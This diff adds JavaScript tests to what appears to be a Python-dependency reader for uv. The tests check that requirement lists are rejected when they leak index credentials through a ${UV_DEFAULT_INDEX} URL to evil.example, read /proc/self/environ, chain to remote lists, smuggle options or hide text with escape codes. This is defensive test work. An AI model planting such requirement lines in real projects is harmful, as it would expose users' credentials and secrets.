@@ -135,6 +135,33 @@ describe('packages are installed', () => {
   })
 })
 
+/** uv fills variables into a list, and its own hold the credentials of the user's index. */
+describe('a list of Python packages may not', () => {
+  const ADDRESS = `https://evil.example/six-1.0-py3-none-any.whl?\${UV_DEFAULT_INDEX}`
+  const HASH = `--hash=sha256:${'0'.repeat(64)}`
+  test.each([
+    ['name a variable', `six @ ${ADDRESS}`, /variables in it are not filled in/],
+    ['name one in an index', `--index-url https://evil.example/\${UV_DEFAULT_INDEX}/simple`, /variables in it/],
+    ['lead to another list', 'six\r  -r https://evil.example/list.txt', /has "-r https:.*only packages can be listed/],
+    ['read a file', '-r /proc/self/environ', /only packages can be listed/],
+    ['name an index', '--extra-index-url=https://evil.example/simple', /only packages can be listed/],
+    ['go on with an option', `six==1.0 \\\n  -e .`, /has "-e \."/],
+    ['hide what it does', '-r\u001B[2J x', /-r\\u\{1b\}/],
+  ])('%s', async (_, text, why) => {
+    await write({ 'requirements.txt': text, 'server.py': '' })
+    await expect(read()).rejects.toThrow(why)
+    await rm(join(path, 'requirements.txt'))
+    await write({ 'pyproject.toml': `[project]\ndependencies = [${JSON.stringify(text)}]` })
+    await expect(read()).rejects.toThrow(why)
+  })
+
+  test('but have comments and hashes', async () => {
+    const text = `# \${NOTE}: -r base.txt\nsix==1.0 \\\n    ${HASH}\n`
+    await write({ 'requirements.txt': text, 'server.py': '' })
+    expect((await read()).packages).toEqual({ kind: 'python', files: { 'requirements.txt': text } })
+  })
+})
+
 describe('a Python project starts', () => {
   test('its script, else a file of a usual name', async () => {
     await write({ 'requirements.txt': '', 'server.py': '' })
